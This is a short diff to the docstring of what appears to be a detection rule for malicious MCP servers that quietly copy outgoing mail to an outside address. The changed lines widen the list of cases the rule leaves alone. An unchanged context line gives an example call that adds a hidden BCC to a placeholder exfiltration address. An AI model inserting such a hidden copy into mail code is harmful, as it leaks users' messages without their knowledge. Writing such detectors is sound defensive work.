@@ -9,8 +9,8 @@ it. This is how the first malicious MCP server that became known worked.
 
 **Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`
 
-**Left alone.** A fixed sender, a fixed only recipient (a contact form), and addresses that come from the
-configuration.
+**Left alone.** A fixed sender; a fixed only recipient (a contact form); copies that the caller of the tool
+asks for; addresses that come from the configuration.
 """
 
 from __future__ import annotations
